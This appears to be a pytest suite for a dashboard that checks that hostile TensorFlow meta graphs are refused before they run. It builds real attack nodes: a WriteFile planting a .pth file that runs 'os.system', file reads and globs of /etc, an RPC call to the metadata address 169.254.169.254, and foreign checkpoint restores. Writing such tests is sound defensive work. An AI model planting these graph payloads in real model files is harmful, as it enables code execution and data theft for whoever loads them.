"""Hostile meta graphs: ops that write or read files, run Python or reach the network.

Each attack is a handful of NodeDefs written by hand into the protobuf of a real checkpoint's
``.meta`` (several of these ops cannot be built from Python in TensorFlow 2.21, and a hostile
file is not built with TensorFlow's helpers anyway). Each is planted four ways: alone in the
graph, inside a function of the library, inside a GraphDef serialized in a string constant, and
behind a control dependency of the output the user asks for. On an untrusted run both graph
executing paths, verify with an output and freeze, refuse it with a message naming the op and
where it was found, and whatever it would have written does not exist afterwards.

The first test shows the attacks are real: on a run marked trusted the op check is lifted and
the same planted WriteFile does write its file (into the freeze's export directory, the one place
besides scratch the sandbox lets a graph write; anywhere once the sandbox's isolation is off).
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.test import override_settings

from dashboard import artifacts, jobs, scanning
from dashboard.models import Checkpoint, Export, Job, Run
from tests.live import BASE_DIR, LiveWorker, module_roots, module_worker, subprocess_env, wait_for

pytestmark = [pytest.mark.tf]

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "2")

PREFIX = "model.ckpt-1"
OUTPUT = "probs"
FUNCTION = "attack_fn"
BLOB = "attack/blob"


# --- building NodeDefs by hand ---------------------------------------------------------------


def _node(name: str, op: str, inputs: tuple[str, ...] = (), **attrs):
    from tensorflow.core.framework import node_def_pb2, types_pb2

    node = node_def_pb2.NodeDef(name=name, op=op, input=list(inputs))
    for key, value in attrs.items():
        attr = node.attr[key]
        if isinstance(value, bool):
            attr.b = value
        elif isinstance(value, int):
            attr.i = value
        elif isinstance(value, str) and value.startswith("DT_"):
            attr.type = types_pb2.DataType.Value(value)
        elif isinstance(value, str | bytes):
            attr.s = value.encode() if isinstance(value, str) else value
        elif isinstance(value, list) and value and str(value[0]).startswith("DT_"):
            attr.list.type.extend(types_pb2.DataType.Value(v) for v in value)
        elif isinstance(value, list) and value and isinstance(value[0], int):
            attr.list.i.extend(value)
        elif isinstance(value, list):
            attr.list.s.extend(v.encode() for v in value)
        else:
            raise TypeError(f"{key}={value!r}")
    return node


def _string_const(name: str, *values: str | bytes):
    from tensorflow.core.framework import tensor_shape_pb2, types_pb2

    node = _node(name, "Const", dtype="DT_STRING")
    tensor = node.attr["value"].tensor
    tensor.dtype = types_pb2.DT_STRING
    if len(values) != 1:
        tensor.tensor_shape.CopyFrom(tensor_shape_pb2.TensorShapeProto(
            dim=[tensor_shape_pb2.TensorShapeProto.Dim(size=len(values))]))
    tensor.string_val.extend(v.encode() if isinstance(v, str) else v for v in values)
    return node


def _number_const(name: str, dtype: str = "DT_FLOAT", value: float = 1.0):
    from tensorflow.core.framework import types_pb2

    node = _node(name, "Const", dtype=dtype)
    tensor = node.attr["value"].tensor
    tensor.dtype = types_pb2.DataType.Value(dtype)
    if dtype == "DT_FLOAT":
        tensor.float_val.append(value)
    else:
        tensor.int64_val.append(int(value))
    return node


# --- the attacks -----------------------------------------------------------------------------


@dataclass
class Attack:
    nodes: list  # NodeDefs, the last one is the sink an output can be made to depend on
    refused: set[str]  # op types the refusal must name
    writes: list[Path]  # files it would create


def write_file(loot: Path) -> Attack:
    # A .pth file in site-packages runs code at the next Python start: the payload.
    target = loot / "site.pth"
    return Attack([
        _string_const("attack/path", str(target)),
        _string_const("attack/contents", "import os; os.system('id')\n"),
        _node("attack/write", "WriteFile", ("attack/path", "attack/contents")),
    ], {"WriteFile"}, [target])


def read_file(loot: Path) -> Attack:
    return Attack([
        _string_const("attack/path", "/etc/hostname"),
        _node("attack/read", "ReadFile", ("attack/path",)),
    ], {"ReadFile"}, [])


def dataset_from_graph(loot: Path) -> Attack:
    # The deny-list bypass: a dataset built from a GraphDef held in a constant, whose graph writes.
    from tensorflow.core.framework import graph_pb2

    inner = write_file(loot)
    hidden = graph_pb2.GraphDef(node=inner.nodes)
    return Attack([
        _string_const("attack/graph_def", hidden.SerializeToString()),
        _node("attack/dataset", "DatasetFromGraph", ("attack/graph_def",)),
        _node("attack/cardinality", "DatasetCardinality", ("attack/dataset",)),
    ], {"DatasetFromGraph", "DatasetCardinality", "WriteFile"}, inner.writes)


def dump_tensor(loot: Path) -> Attack:
    return Attack([
        _number_const("attack/value"),
        _node("attack/dump", "DumpTensor", ("attack/value",), T="DT_FLOAT", log_dir_path=str(loot),
              file_name="dump.npy", enabled=True, func_name="f", node_name="n"),
    ], {"DumpTensor"}, [loot / "dump.npy"])


def calibration_statistics_saver(loot: Path) -> Attack:
    target = loot / "statistics.pb"
    return Attack([
        _number_const("attack/value"),
        _node("attack/stats", "CalibrationStatisticsSaver", ("attack/value",), Tin=["DT_FLOAT"],
              ids=["1"], calibration_methods=[1], output_file_path=str(target)),
    ], {"CalibrationStatisticsSaver"}, [target])


def rpc(loot: Path) -> Attack:
    return Attack([
        _string_const("attack/address", "169.254.169.254:80"),
        _number_const("attack/timeout", "DT_INT64", 1000),
        _node("attack/client", "RpcClient", ("attack/address", "attack/timeout"), shared_name="c",
              list_registered_methods=False),
        _string_const("attack/method", "exfiltrate"),
        _node("attack/call", "RpcCall", ("attack/client", "attack/method", "attack/timeout"), Tin=[]),
    ], {"RpcClient", "RpcCall"}, [])


def _restore(op: str, foreign: str) -> Attack:
    # Reads another checkpoint on disk into the graph: its weights would reach our outputs.
    extra = {"input_shapes": [], "input_layouts": []} if op == "DTensorRestoreV2" else {}
    node = _node("attack/restore", op, ("attack/prefix", "attack/names", "attack/slices"),
                 dtypes=["DT_FLOAT"], **extra)
    if op == "DTensorRestoreV2":
        node.attr["input_shapes"].list.shape.add()
        node.attr["input_layouts"].list.s.append(b"")
    return Attack([
        _string_const("attack/prefix", foreign),
        _string_const("attack/names", "w"),
        _string_const("attack/slices", ""),
        node,
    ], {op}, [])


def restore_v2(loot: Path) -> Attack:
    return _restore("RestoreV2", str(loot.parent / "elsewhere" / "secret.ckpt-1"))


def dtensor_restore_v2(loot: Path) -> Attack:
    return _restore("DTensorRestoreV2", str(loot.parent / "elsewhere" / "secret.ckpt-1"))


def py_func(loot: Path) -> Attack:
    return Attack([
        _number_const("attack/value"),
        _node("attack/py", "PyFunc", ("attack/value",), token="pyfunc_0", Tin=["DT_FLOAT"],
              Tout=["DT_FLOAT"]),
    ], {"PyFunc"}, [])


def matching_files(loot: Path) -> Attack:
    return Attack([
        _string_const("attack/pattern", "/etc/*"),
        _node("attack/glob", "MatchingFiles", ("attack/pattern",)),
    ], {"MatchingFiles"}, [])


def save(loot: Path) -> Attack:
    target = loot / "weights"
    return Attack([
        _string_const("attack/filename", str(target)),
        _string_const("attack/names", "w"),
        _number_const("attack/value"),
        _node("attack/save", "Save", ("attack/filename", "attack/names", "attack/value"), T=["DT_FLOAT"]),
    ], {"Save"}, [target])


def save_v2(loot: Path) -> Attack:
    target = loot / "weights"
    return Attack([
        _string_const("attack/prefix", str(target)),
        _string_const("attack/names", "w"),
        _string_const("attack/slices", ""),
        _number_const("attack/value"),
        _node("attack/save", "SaveV2", ("attack/prefix", "attack/names", "attack/slices", "attack/value"),
              dtypes=["DT_FLOAT"]),
    ], {"SaveV2"}, [target.with_name("weights.index"), target.with_name("weights.data-00000-of-00001")])


ATTACKS: dict[str, Callable[[Path], Attack]] = {
    "WriteFile": write_file,
    "ReadFile": read_file,
    "DatasetFromGraph": dataset_from_graph,
    "DumpTensor": dump_tensor,
    "CalibrationStatisticsSaver": calibration_statistics_saver,
    "RpcClient+RpcCall": rpc,
    "RestoreV2-foreign-prefix": restore_v2,
    "DTensorRestoreV2-foreign-prefix": dtensor_restore_v2,
    "PyFunc": py_func,
    "MatchingFiles": matching_files,
    "Save": save,
    "SaveV2": save_v2,
}


# --- planting an attack into a real meta graph -----------------------------------------------


def _in_function(nodes: list):
    from tensorflow.core.framework import function_pb2

    function = function_pb2.FunctionDef()
    function.signature.name = FUNCTION
    function.signature.is_stateful = True
    for node in nodes:
        inner = function.node_def.add()
        inner.CopyFrom(node)
        del inner.input[:]
        # Inside a function a data input names the producing node's output argument.
        inner.input.extend(i if i.startswith("^") else f"{i}:output:0" for i in node.input)
    return function


def plant(meta, attack: Attack, placement: str) -> str:
    """Add ``attack`` to ``meta`` (a MetaGraphDef, changed in place); return where it should be found."""
    from tensorflow.core.framework import graph_pb2

    graph = meta.graph_def
    if placement in ("alone", "control"):
        graph.node.extend(attack.nodes)
        if placement == "control":
            output = next(node for node in graph.node if node.name == OUTPUT)
            output.input.append("^" + attack.nodes[-1].name)
        return "the graph"
    if placement == "function":
        graph.library.function.append(_in_function(attack.nodes))
        graph.node.append(_node("attack/call", "StatefulPartitionedCall", Tin=[], Tout=[]))
        graph.node[-1].attr["f"].func.name = FUNCTION
        return f"function '{FUNCTION}'"
    if placement == "serialized":
        hidden = graph_pb2.GraphDef(node=attack.nodes)
        graph.node.append(_string_const(BLOB, "vocabulary", hidden.SerializeToString()))
        return f"a graph serialized in '{BLOB}'"
    raise ValueError(placement)


# --- fixtures --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    """A small TF1 classifier saved by a Saver with its meta graph: the graph every attack rides."""
    import tensorflow as tf

    v1 = tf.compat.v1
    directory = tmp_path_factory.mktemp("attack-template") / "run"
    with tf.Graph().as_default():
        x = v1.placeholder(tf.float32, [None, 3], name="x")
        w = v1.get_variable("w", [3, 2])
        tf.nn.softmax(tf.matmul(x, w), name=OUTPUT)
        with v1.Session() as sess:
            sess.run(v1.global_variables_initializer())
            v1.train.Saver().save(sess, str(directory / "model.ckpt"), global_step=1)
    return directory


def hostile_run(root: Path, template: Path, attack: Attack, placement: str, *,
                trusted: bool = False, name: str = "") -> tuple[Checkpoint, str]:
    """A registered run (``name`` or a fresh one) whose only checkpoint's .meta carries ``attack``."""
    from persistence.graphsafety import load_meta_graph_def

    name = name or f"hostile-{uuid.uuid4().hex[:8]}"
    directory = root / name
    shutil.copytree(template, directory)
    meta_path = directory / f"{PREFIX}.meta"
    meta = load_meta_graph_def(meta_path)
    where = plant(meta, attack, placement)
    meta_path.write_bytes(meta.SerializeToString())
    run = Run.objects.create(name=name, directory=str(directory), trusted=trusted)
    scanning.scan(run)
    return run.checkpoints.get(prefix=PREFIX), where


def _loot(tmp_path: Path) -> Path:
    loot = tmp_path / "loot"
    loot.mkdir()
    return loot


def _assert_refusal_names(message: str, attack: Attack, where: str) -> None:
    assert "unsafe ops" in message and "trusted" in message, message
    for op in attack.refused - {"DatasetFromGraph", "DatasetCardinality"}:
        assert op in message, (op, message)
    assert f"in {where}" in message, (where, message)


# --- the corpus ------------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_planted_write_file_really_writes_when_the_run_is_trusted(checkpoint_root, template, tmp_path, settings):
    """The attacks are real: on a trusted run the op check is lifted and the planted WriteFile runs.

    A trusted run still runs its graph in the sandbox, which lets the child write only beneath its
    scratch directory and the freeze's export directory (tests/faults/test_sandbox.py shows a write
    elsewhere stopped). So the freeze's planted write targets that export directory and the payload
    appears there; and with the sandbox's isolation turned off the same graph writes it anywhere.
    """
    name = f"hostile-{uuid.uuid4().hex[:8]}"
    export_directory = Path(settings.EXPORT_ROOT).resolve() / name / "1"
    attack = write_file(export_directory)
    checkpoint, _ = hostile_run(checkpoint_root, template, attack, "control", trusted=True, name=name)
    assert not attack.writes[0].exists()

    export = artifacts.freeze(checkpoint, outputs=[OUTPUT])

    assert Path(export.path).parent == export_directory
    assert export.verified and export.verification["unsafe_ops_allowed"] == ["WriteFile"]
    assert attack.writes[0].read_text().startswith("import os")

    loot = _loot(tmp_path)
    anywhere = write_file(loot)
    checkpoint, _ = hostile_run(checkpoint_root, template, anywhere, "control", trusted=True)
    with override_settings(GRAPH_SANDBOX_ISOLATE=False):
        export = artifacts.freeze(checkpoint, outputs=[OUTPUT])
    assert export.verified and export.verification["unsafe_ops_allowed"] == ["WriteFile"]
    assert anywhere.writes[0].read_text().startswith("import os")


PLACEMENTS = ["alone", "function", "serialized", "control"]


@pytest.mark.django_db
@pytest.mark.parametrize("placement", PLACEMENTS)
@pytest.mark.parametrize("attack_name", list(ATTACKS))
def test_attack_is_refused_by_verify_and_freeze_before_anything_runs(
    checkpoint_root, template, tmp_path, attack_name, placement
):
    from persistence.freeze import FreezeError
    from persistence.graphsafety import UnsafeGraph

    loot = _loot(tmp_path)
    attack = ATTACKS[attack_name](loot)
    checkpoint, where = hostile_run(checkpoint_root, template, attack, placement)

    verification = artifacts.verify(checkpoint, output=OUTPUT)
    assert verification["status"] == "verified"  # the tensors are sound; running the graph is not
    restore = verification["restore"]
    assert restore["ok"] is False
    _assert_refusal_names(restore["error"], attack, where)

    with pytest.raises((UnsafeGraph, FreezeError)) as refused:
        artifacts.freeze(checkpoint, outputs=[OUTPUT])
    assert isinstance(refused.value, UnsafeGraph), refused.value
    _assert_refusal_names(str(refused.value), attack, where)
    if placement in ("alone", "control"):
        assert attack.refused <= set(refused.value.ops)

    assert sorted(os.listdir(loot)) == []
    assert not any(path.exists() for path in attack.writes)
    assert not Export.objects.exists()
    assert not (Path(checkpoint_root).parent / "exports").exists() or not any(
        (Path(checkpoint_root).parent / "exports").rglob("*.pb"))


@pytest.mark.django_db
def test_restore_v2_on_the_savers_restore_path_with_a_foreign_prefix_is_refused(
    checkpoint_root, template, tmp_path
):
    from persistence.graphsafety import UnsafeGraph, load_meta_graph_def

    name = f"hostile-{uuid.uuid4().hex[:8]}"
    directory = checkpoint_root / name
    shutil.copytree(template, directory)
    meta_path = directory / f"{PREFIX}.meta"
    meta = load_meta_graph_def(meta_path)
    meta.graph_def.node.append(_string_const("save/foreign", str(tmp_path / "elsewhere" / "secret.ckpt-1")))
    restore = next(node for node in meta.graph_def.node if node.op == "RestoreV2")
    restore.input[0] = "save/foreign"
    meta_path.write_bytes(meta.SerializeToString())
    run = Run.objects.create(name=name, directory=str(directory))
    scanning.scan(run)
    checkpoint = run.checkpoints.get()

    assert "filename tensor" in artifacts.verify(checkpoint, output=OUTPUT)["restore"]["error"]
    with pytest.raises(UnsafeGraph, match=r"RestoreV2 \('save/RestoreV2' in the graph: reads a prefix"):
        artifacts.freeze(checkpoint, outputs=[OUTPUT])


@pytest.mark.django_db
def test_the_savers_own_save_behind_the_outputs_control_dependency_is_refused(checkpoint_root, template):
    from persistence.graphsafety import UnsafeGraph, load_meta_graph_def

    name = f"hostile-{uuid.uuid4().hex[:8]}"
    directory = checkpoint_root / name
    shutil.copytree(template, directory)
    meta_path = directory / f"{PREFIX}.meta"
    meta = load_meta_graph_def(meta_path)
    output = next(node for node in meta.graph_def.node if node.name == OUTPUT)
    # Running the output would save the weights to the saver's default path, wherever it points.
    output.input.append("^" + meta.saver_def.save_tensor_name.split(":")[0])
    meta_path.write_bytes(meta.SerializeToString())
    run = Run.objects.create(name=name, directory=str(directory))
    scanning.scan(run)

    with pytest.raises(UnsafeGraph, match=r"SaveV2 \('save/SaveV2' in the graph: the outputs depend on it"):
        artifacts.freeze(run.checkpoints.get(), outputs=[OUTPUT])
    assert sorted(p.name for p in directory.iterdir()) == sorted(p.name for p in template.iterdir())


# --- the reproduction through the queue and the command -------------------------------


@pytest.fixture(scope="module")
def roots(tmp_path_factory):
    with module_roots(tmp_path_factory, "attack-roots") as base:
        yield base


@pytest.fixture(scope="module")
def worker(roots, django_db_setup, django_db_blocker, tmp_path_factory):
    with module_worker(django_db_blocker, tmp_path_factory) as live:
        yield live


def _wait(job: Job, worker: LiveWorker) -> Job:
    def ended():
        job.refresh_from_db()
        assert worker.process.poll() is None, "the worker died"
        return job.status in (Job.FINISHED, Job.FAILED, Job.CANCELED)

    wait_for(ended, timeout=120, what=f"job {job.pk}")
    return job


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_dataset_from_graph_behind_the_output_is_refused_by_the_jobs_and_the_command(
    roots, worker, template, tmp_path
):
    loot = _loot(tmp_path)
    attack = dataset_from_graph(loot)
    checkpoint, where = hostile_run(roots / "checkpoints", template, attack, "control")

    frozen = _wait(jobs.start(Job.FREEZE, run=checkpoint.run, checkpoint=checkpoint,
                              params={"outputs": [OUTPUT]}), worker)
    assert frozen.status == Job.FAILED
    assert "DatasetCardinality" in frozen.error and "DatasetFromGraph" in frozen.error
    assert "WriteFile ('attack/write' in a graph serialized in 'attack/graph_def' of the graph" in frozen.error

    verified = _wait(jobs.start(Job.RESTORE, run=checkpoint.run, checkpoint=checkpoint,
                                params={"output": OUTPUT}), worker)
    checkpoint.refresh_from_db()
    assert "DatasetFromGraph" in checkpoint.verification["restore"]["error"], (verified.status, verified.error)

    command = subprocess.run(
        [sys.executable, "manage.py", "freeze", str(checkpoint.pk), "--outputs", OUTPUT, "--json"],
        capture_output=True, text=True, timeout=120, cwd=BASE_DIR, env=subprocess_env(),
    )
    assert command.returncode == 1 and "DatasetFromGraph" in command.stdout, (command.stdout, command.stderr)

    assert sorted(os.listdir(loot)) == []
    assert not Export.objects.filter(checkpoint=checkpoint).exists()
